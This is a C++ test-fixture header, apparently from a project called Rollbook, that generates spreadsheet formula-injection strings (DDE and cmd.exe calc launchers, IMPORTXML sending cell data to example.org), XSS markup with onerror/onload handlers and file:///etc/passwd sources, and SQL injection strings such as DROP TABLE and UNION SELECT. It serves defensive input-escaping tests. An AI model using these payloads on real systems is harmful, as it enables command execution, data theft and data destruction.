// SPDX-FileCopyrightText: Rollbook contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QStringList>

namespace rollbook::test {

/// 200 texts that a spreadsheet would run.
inline QStringList formulas()
{
    const QStringList payloads { QStringLiteral("1+1"), QStringLiteral("cmd|' /C calc'!A0"),
        QStringLiteral("HYPERLINK(\"https://example.org\",\"more\")"), QStringLiteral("SUM(A1:A9)"),
        QStringLiteral("IMPORTXML(CONCAT(\"https://example.org/\",A2),\"//a\")"),
        QStringLiteral("WEBSERVICE(\"https://example.org\")"), QStringLiteral("DDE(\"cmd\";\"/C calc\";\"x\")"),
        QStringLiteral("EXEC(\"calc\")"), QStringLiteral("A1"), QStringLiteral("INDIRECT(\"A\"&1)"),
        QStringLiteral("RAND()"), QStringLiteral("2,3\"quoted\""),
        QStringLiteral("msexcel|'\\..\\..\\cmd.exe /c calc'!A"), QStringLiteral("FILTERXML(\"<a/>\",\"//b\")"),
        QStringLiteral("IF(1,2,3)"), QStringLiteral("OFFSET(A1,1,1)"), QStringLiteral("CALL(\"x\")"),
        QStringLiteral("0x41"), QStringLiteral("9E9"), QStringLiteral("REGISTER.ID(\"x\",\"y\")") };
    const QStringList beginnings { QStringLiteral("="), QStringLiteral("+"), QStringLiteral("-"), QStringLiteral("@"),
        QStringLiteral("＝"), QStringLiteral("＋"), QStringLiteral("－"), QStringLiteral("＠"), QStringLiteral("'="),
        QStringLiteral("''+") };
    QStringList all;
    for (const QString &beginning : beginnings) {
        for (const QString &payload : payloads)
            all.append(beginning + payload);
    }
    return all;
}

/// 500 texts that a page of markup would act on.
inline QStringList markup()
{
    const QStringList tags { QStringLiteral("img"), QStringLiteral("script"), QStringLiteral("svg"),
        QStringLiteral("iframe"), QStringLiteral("link"), QStringLiteral("object"), QStringLiteral("style"),
        QStringLiteral("a"), QStringLiteral("table"), QStringLiteral("body") };
    const QStringList rests { QStringLiteral(" src=\"file:///etc/passwd\">"),
        QStringLiteral(" src=x onerror=alert(%1)>"), QStringLiteral(" href='https://example.org/%1'>"),
        QStringLiteral(">%1</x>"), QStringLiteral("/onload=alert(%1)>"),
        QStringLiteral(" style=\"background:url(https://example.org/%1)\">"), QStringLiteral("><b>%1"),
        QStringLiteral(" data=\"data:text/html,%1\">"), QStringLiteral(">&lt;%1&gt;&#%1;"),
        QStringLiteral(" %1 <!--") };
    QStringList all;
    for (int round = 0; round < 5; ++round) {
        for (const QString &tag : tags) {
            for (const QString &rest : rests)
                all.append(QLatin1Char('<') + tag
                    + (rest.contains(QLatin1String("%1")) ? rest.arg(round) : rest + QString::number(round)));
        }
    }
    return all;
}

/// So many texts that a statement put together from pieces would run.
inline QStringList sql(int count)
{
    const QStringList forms { QStringLiteral("'; DROP TABLE member; --%1"),
        QStringLiteral("Robert'); DELETE FROM period WHERE ('%1'='%1"), QStringLiteral("\" OR \"%1\"=\"%1"),
        QStringLiteral("%1' UNION SELECT name FROM sqlite_master --"), QStringLiteral("x'; PRAGMA user_version=%1; --"),
        QStringLiteral("';ATTACH DATABASE '/tmp/%1' AS a;--"),
        QStringLiteral("%1\\'; UPDATE member SET family = '' --"), QStringLiteral("' OR member MATCH '%1*"),
        QStringLiteral("family:%1 NEAR(a b)"), QStringLiteral("?%1 :n @n $n"), QStringLiteral("%_%1%_"),
        QStringLiteral("/* %1 */ ; VACUUM"), QStringLiteral("\"%1\" AND *"), QStringLiteral("[%1] `x` \"y\" 'z'"),
        QStringLiteral("x'%1'||char(39)||'"), QStringLiteral("^%1 -b +c (d OR") };
    QStringList all;
    for (int i = 0; i < count; ++i)
        all.append(forms.at(i % forms.size()).arg(i));
    return all;
}

} // namespace rollbook::test
